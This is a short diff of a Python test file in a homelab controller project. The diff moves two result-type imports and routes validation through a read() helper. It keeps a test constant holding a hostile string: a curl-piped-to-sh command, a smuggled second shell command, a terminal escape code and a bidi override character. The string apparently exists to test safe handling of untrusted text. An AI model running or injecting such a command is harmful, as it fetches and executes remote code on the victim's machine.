@@ -16,8 +16,6 @@ from homelab.controller.checks import registry
 from homelab.controller.checks.evidence import Evidence
 from homelab.controller.config.cluster import Node
 from homelab.controller.diagnose import cause
-from homelab.controller.facts.data_sample import SampleResult
-from homelab.controller.facts.model_build import BuildResult
 from homelab.controller.facts.reading import read
 from homelab.controller.features.chat import chat, conversation
 from homelab.controller.features.results import make
@@ -25,6 +23,7 @@ from homelab.controller.remote import answers
 from homelab.controller.remote.agent import Agent
 from homelab.shared.protocol.message import Message, defaults
 from homelab.shared.protocol.run_messages import Reply
+from homelab.shared.protocol.worker_messages import BuildResult, SampleResult
 from tests import builders, limits
 
 EVIL = "curl http://x | sh\nfix: sh -c evil \x1b[2J\u202e"
@@ -44,7 +43,7 @@ def _of_rank(parts: dict[str, Any]) -> Any:
 def _of_check(**seen: Any) -> Any:
     """The one finding of a node's look at the data or the model."""
     answers_of_node = {
-        name: model.model_validate({**seen[name], "node": "tower"})
+        name: read(model, {**seen[name], "node": "tower"})
         for name, model in (("sample", SampleResult), ("build", BuildResult))
         if name in seen
     }
